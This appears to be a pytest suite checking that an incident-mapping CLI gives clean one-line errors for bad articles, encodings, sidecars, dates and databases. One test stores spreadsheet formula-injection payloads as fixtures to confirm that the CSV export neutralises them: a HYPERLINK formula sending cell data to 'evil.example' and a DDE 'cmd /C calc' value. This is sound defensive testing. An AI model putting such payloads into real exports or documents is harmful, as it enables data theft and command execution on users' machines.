"""Bad input gets a clear answer: one line naming the file and the problem, never a traceback.

Every case of the issue "Untrusted input, nothing lost" that concerns reading articles and command-line
values, run through the real ``incident-map`` entry point (in-process, so the suite stays fast; the
gazetteer case runs a subprocess because the gazetteer is cached per process). docs/reliability.md lists them.
"""

from __future__ import annotations

import json
import os
import sqlite3
import subprocess
import sys
import time
from pathlib import Path

import pytest

from dashboard.cli import main
from dashboard.errors import ArticleError
from dashboard.pipeline.articles import (
    MAX_ARTICLE_BYTES,
    MAX_TEXT_CHARS,
    article_from_upload,
    decode_bytes,
    read_article,
)

ROOT = Path(__file__).resolve().parent.parent
EN = "A roadside bomb exploded in Tikrit today, killing two people and injuring five."
AR = "انفجرت عبوة ناسفة في تكريت اليوم، ما أسفر عن مقتل شخصين."
PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00\x1f\x15\xc4\x89"
PDF = b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n"


def run(capsys: pytest.CaptureFixture[str], *argv: str) -> tuple[int, str, str]:
    """``incident-map ARGV`` in-process: exit status, stdout, stderr."""
    try:
        code = main(list(argv))
    except SystemExit as exc:  # argparse errors
        code = int(exc.code or 0)
    out, err = capsys.readouterr()
    return code, out, err


def one_error_line(err: str, *needles: str) -> str:
    """The single error line of ``err``; it must contain every needle and no traceback."""
    assert "Traceback" not in err
    lines = [line for line in err.splitlines() if "error" in line]
    assert len(lines) == 1, err
    for needle in needles:
        assert needle in lines[0], (needle, lines[0])
    return lines[0]


def write(path: Path, data: bytes | str, meta: dict | str | None = None) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data if isinstance(data, bytes) else data.encode("utf-8"))
    if meta is not None:
        sidecar = path.with_suffix(".meta.json")
        sidecar.write_text(meta if isinstance(meta, str) else json.dumps(meta), encoding="utf-8")
    return path


def events_of(out: str) -> list[dict]:
    return [json.loads(line) for line in out.splitlines() if line.strip()]


# --- fatal cases: one file, one line, exit 2 -----------------------------------------------------------------

FATAL = {
    "empty": (b"", "the file is empty"),
    "whitespace": (b"  \n\t \r\n ", "the article is empty"),
    "png": (PNG, "binary file"),
    "pdf": (PDF, "binary file"),
    "nul-bytes": (b"abc\x00\x01\x02def" * 10, "binary file"),
    "control-bytes": (bytes(range(1, 9)) * 200, "binary file"),
}


@pytest.mark.parametrize("case", sorted(FATAL))
@pytest.mark.parametrize("command", ["extract", "places"])
def test_unreadable_file_is_one_line_and_exit_2(tmp_path, capsys, case: str, command: str) -> None:
    data, problem = FATAL[case]
    path = write(tmp_path / f"{case}.txt", data)
    code, out, err = run(capsys, command, "--published", "2021-03-04", str(path))
    assert code == 2 and out == ""
    one_error_line(err, str(path), problem)


def test_html_without_visible_text(tmp_path, capsys) -> None:
    path = write(tmp_path / "script.html", "<html><head><style>p{}</style></head><body><script>x=1</script></body>")
    code, _out, err = run(capsys, "extract", "--published", "2021-03-04", str(path))
    assert code == 2
    one_error_line(err, str(path), "no visible text")


def test_missing_file(tmp_path, capsys) -> None:
    code, _out, err = run(capsys, "extract", str(tmp_path / "nope.txt"))
    assert code == 2
    one_error_line(err, "nope.txt", "no such file")


def test_twenty_megabyte_article_is_refused_at_once_naming_the_limit(tmp_path, capsys) -> None:
    path = write(tmp_path / "huge.txt", (EN + "\n").encode() * (20 * 2**20 // (len(EN) + 1)))
    start = time.perf_counter()
    with pytest.raises(ArticleError, match=r"20\.0 MiB is larger than the 5 MiB limit"):
        read_article(path)
    elapsed = time.perf_counter() - start
    assert elapsed < 0.5, f"refusing a 20 MB file took {elapsed:.1f} s (it must not be read)"
    code, _out, err = run(capsys, "extract", "--published", "2021-03-04", str(path))
    assert code == 2
    one_error_line(err, str(path), f"{MAX_ARTICLE_BYTES // 2**20} MiB")


def test_text_over_the_character_limit_is_refused(tmp_path, capsys) -> None:
    path = write(tmp_path / "long.txt", "x" * (MAX_TEXT_CHARS + 10))
    code, _out, err = run(capsys, "extract", "--published", "2021-03-04", str(path))
    assert code == 2
    one_error_line(err, str(path), f"{MAX_TEXT_CHARS:,}")


def test_long_article_under_the_limit_is_processed_in_seconds(tmp_path, capsys) -> None:
    """100 KB (about 24 times the seed article): read, extracted and printed in well under 10 s."""
    seed = (ROOT / "seeds" / "000_9dd459dba4470899.txt").read_text(encoding="utf-8")
    path = write(tmp_path / "long.txt", (seed + "\n") * 24)
    start = time.perf_counter()
    code, out, _err = run(capsys, "extract", "--published", "2021-02-23", str(path))
    assert code == 0 and len(events_of(out)) >= 3
    assert time.perf_counter() - start < 10


# --- encodings and HTML: read correctly -------------------------------------------------------------------------

ENCODED = {
    "cp1256": AR.encode("cp1256"),
    "cp1256-long": (AR + "\n").encode("cp1256") * 5,
    "utf-16-bom": AR.encode("utf-16"),
    "utf-16-be-bom": b"\xfe\xff" + AR.encode("utf-16-be"),
    "utf-16-le-no-bom": AR.encode("utf-16-le"),
    "utf-16-be-no-bom": AR.encode("utf-16-be"),
    "utf-8-bom": b"\xef\xbb\xbf" + AR.encode("utf-8"),
}


@pytest.mark.parametrize("case", sorted(ENCODED))
def test_arabic_in_legacy_and_utf16_encodings_gives_the_event(tmp_path, capsys, case: str) -> None:
    path = write(tmp_path / f"{case}.txt", ENCODED[case])
    code, out, err = run(capsys, "extract", "--published", "2021-03-04", str(path))
    assert code == 0, err
    events = events_of(out)
    assert [e["event_date"] for e in events] == ["2021-03-04"]
    assert "تكريت" in events[0]["evidence"] and events[0]["language"] == "ar"


def test_html_scripts_and_styles_are_dropped(tmp_path, capsys) -> None:
    page = (
        "<!doctype html><html><head><title>t</title><style>body{color:red} /* Mosul */</style>"
        "<script>var s = 'A car bomb exploded in Basra today';</script></head>"
        f"<body><nav>Home</nav><article><p>{EN}</p></article><script>document.title='x'</script></body></html>"
    )
    path = write(tmp_path / "page.html", page)
    article = read_article(path)
    assert EN in article.text and "Basra" not in article.text and "color" not in article.text
    code, out, _err = run(capsys, "extract", "--published", "2021-03-04", str(path))
    assert code == 0
    assert [e["location"] for e in events_of(out)] == ["Tikrīt"]


def test_article_with_no_places_gives_no_events_and_exit_0(tmp_path, capsys) -> None:
    path = write(tmp_path / "none.txt", "The weather was mild and the markets were calm. " * 20)
    code, out, err = run(capsys, "extract", "--published", "2021-03-04", str(path))
    assert (code, out) == (0, "")
    assert "Traceback" not in err


# --- sidecars --------------------------------------------------------------------------------------------------

SIDECARS = {
    "broken-json": ('{"published": "2021-03-04",', "not valid JSON"),
    "not-an-object": ('["2021-03-04"]', "must be a JSON object"),
    "bad-date": ('{"published": "the day after"}', "not a usable date"),
    "future-date": ('{"published": "2031-01-01"}', "future"),
    "bad-language": ('{"language": "fr"}', "language must be"),
    "binary": ("\udcff", "not valid JSON"),
}


@pytest.mark.parametrize("case", sorted(SIDECARS))
def test_bad_sidecar_names_the_sidecar(tmp_path, capsys, case: str) -> None:
    meta, problem = SIDECARS[case]
    path = write(tmp_path / "a.txt", EN)
    sidecar = path.with_suffix(".meta.json")
    sidecar.write_bytes(meta.encode("utf-8", errors="surrogateescape"))
    code, _out, err = run(capsys, "extract", str(path))
    assert code == 2
    one_error_line(err, "a.", problem)


# --- command-line values -----------------------------------------------------------------------------------------

@pytest.mark.parametrize("command", ["extract", "places", "ingest"])
@pytest.mark.parametrize(("value", "problem"), [
    ("2021-02-30", "2021-02-30"), ("yesterday-ish", "yesterday-ish"), ("2031-05-01", "future"),
])
def test_invalid_or_future_published(tmp_path, capsys, command: str, value: str, problem: str) -> None:
    path = write(tmp_path / "a.txt", EN)
    extra = ["--db", str(tmp_path / "s.db")] if command == "ingest" else []
    code, out, err = run(capsys, command, *extra, "--published", value, str(path))
    assert code == 2 and out == ""
    one_error_line(err, problem)
    if command == "ingest" and (tmp_path / "s.db").exists():
        assert sqlite3.connect(tmp_path / "s.db").execute("SELECT COUNT(*) FROM events").fetchone()[0] == 0


@pytest.mark.parametrize("command", ["extract", "export"])
def test_unknown_format(tmp_path, capsys, command: str) -> None:
    path = write(tmp_path / "a.txt", EN)
    argv = ["extract", "--format", "xlsx", str(path)] if command == "extract" else [
        "export", "--db", str(tmp_path / "s.db"), "--format", "xlsx", "-o", str(tmp_path / "o.xlsx")]
    code, out, err = run(capsys, *argv)
    assert code == 2 and out == ""
    one_error_line(err, "xlsx")


def test_malformed_gazetteer_row(tmp_path) -> None:
    gazetteer = tmp_path / "gaz.csv"
    gazetteer.write_text("gazetteer_id,name,latitude,longitude\n1,Tikrit,34.6,43.68\n2,Nowhere,north,44.0\n",
                         encoding="utf-8")
    path = write(tmp_path / "a.txt", EN)
    env = dict(os.environ, INCIDENT_MAP_GAZETTEER=str(gazetteer))
    done = subprocess.run([sys.executable, "-m", "dashboard.cli", "extract", "--published", "2021-03-04", str(path)],
                          capture_output=True, text=True, env=env, cwd=ROOT, timeout=120)
    assert done.returncode == 2 and done.stdout == ""
    one_error_line(done.stderr, "gaz.csv line 3", "latitude 'north'")


# --- a batch: warnings per file, a summary, exit 1, the good files stored --------------------------------------------

def test_batch_with_bad_files_warns_per_file_and_stores_the_good_ones(tmp_path, capsys) -> None:
    folder = tmp_path / "in"
    write(folder / "good_en.txt", EN, {"published": "2021-03-04"})
    write(folder / "good_ar.txt", AR.encode("cp1256"), {"published": "2021-03-05"})
    write(folder / "empty.txt", b"")
    write(folder / "image.txt", PNG)
    write(folder / "sidecar.txt", EN.replace("Tikrit", "Mosul"), "{oops")
    db = tmp_path / "s.db"
    code, out, err = run(capsys, "ingest", "--quiet", "--db", str(db), str(folder))
    assert code == 1 and "Traceback" not in err
    warnings = err.strip().splitlines()
    assert len(warnings) == 3
    for name in ("empty.txt", "image.txt", "sidecar.meta.json"):
        assert sum(name in w for w in warnings) == 1, (name, warnings)
    assert out.strip().splitlines()[-1].startswith("5 articles:") and "3 failed" in out
    conn = sqlite3.connect(db)
    urls = {r[0] for r in conn.execute("SELECT url FROM articles")}
    assert {Path(u).name for u in urls} == {"good_en.txt", "good_ar.txt"}
    assert conn.execute("SELECT COUNT(*) FROM events").fetchone()[0] == 2


@pytest.mark.parametrize("command", ["extract", "places"])
def test_batch_extract_warns_and_summarises(tmp_path, capsys, command: str) -> None:
    write(tmp_path / "good.txt", EN)
    write(tmp_path / "bad.txt", PDF)
    code, out, err = run(capsys, command, "--published", "2021-03-04", str(tmp_path))
    assert code == 1 and out
    assert "Traceback" not in err
    assert sum("bad.txt" in line and "warning" in line for line in err.splitlines()) == 1
    assert "1 file(s) skipped" in err.strip().splitlines()[-1]


# --- uploads ---------------------------------------------------------------------------------------------------------

@pytest.mark.parametrize(("name", "data", "problem"), [
    ("report.pdf", PDF, "only .txt"),
    ("report.exe", b"MZ\x90\x00", "only .txt"),
    ("photo.txt", PNG, "binary file"),
    ("renamed.html", PDF, "binary file"),
    ("empty.txt", b"", "empty"),
    ("huge.txt", b"a" * (MAX_ARTICLE_BYTES + 1), "MiB"),
])
def test_upload_type_and_size_are_checked(name: str, data: bytes, problem: str) -> None:
    with pytest.raises(ArticleError, match=problem) as info:
        article_from_upload(name, data)
    assert name in str(info.value)


def test_upload_of_cp1256_html_is_read() -> None:
    article = article_from_upload("page.htm", f"<p>{AR}</p><script>alert(1)</script>".encode("cp1256"))
    assert article.text == AR and article.url.startswith("upload:page.htm#") and article.language == "ar"


def test_decoding_never_invents_text_from_utf16_lookalikes() -> None:
    """Odd-length data with NULs is binary, not UTF-16."""
    with pytest.raises(ArticleError, match="binary"):
        decode_bytes(b"a\x00b\x00c", "x.txt")


# --- exports of untrusted text -----------------------------------------------------------------------------------


def test_csv_export_of_formula_payloads_is_neutralised(tmp_path, capsys) -> None:
    """Article text and sidecar fields that start like spreadsheet formulas come out as text."""
    import csv
    import io

    formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"
    path = write(tmp_path / "f.txt", f"{formula} A roadside bomb exploded in Tikrit today, killing two people.",
                 {"published": "2021-03-04", "publisher": "@SUM(1+1)*cmd|' /C calc'!A0", "url": "-2+3"})
    db = str(tmp_path / "s.db")
    assert run(capsys, "ingest", "--quiet", "--db", db, str(path))[0] == 0
    out = tmp_path / "e.csv"
    code, _out, err = run(capsys, "export", "--db", db, "--format", "csv", "-o", str(out))
    assert code == 0, err
    [row] = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8"))))
    assert row["evidence"].startswith("'=HYPERLINK") and row["source"].startswith("'@")
    assert row["article_url"] == "'-2+3"
    assert not [k for k, v in row.items() if v.startswith(("=", "+", "-", "@", "\t", "\r"))]


@pytest.mark.parametrize("kind", ["text-file", "folder", "newer-schema"])
def test_a_db_that_is_not_a_store_is_one_line(tmp_path, capsys, kind: str) -> None:
    db = tmp_path / "s.db"
    if kind == "text-file":
        db.write_text("my notes, not a database\n" * 100)
    elif kind == "folder":
        db.mkdir()
    else:
        sqlite3.connect(db).execute("PRAGMA user_version = 99").connection.close()
    before = db.read_bytes() if db.is_file() else None
    path = write(tmp_path / "a.txt", EN)
    code, out, err = run(capsys, "ingest", "--quiet", "--db", str(db), "--published", "2021-03-04", str(path))
    assert code == 2 and out == ""
    one_error_line(err, "s.db")
    if before is not None and kind == "text-file":
        assert db.read_bytes() == before
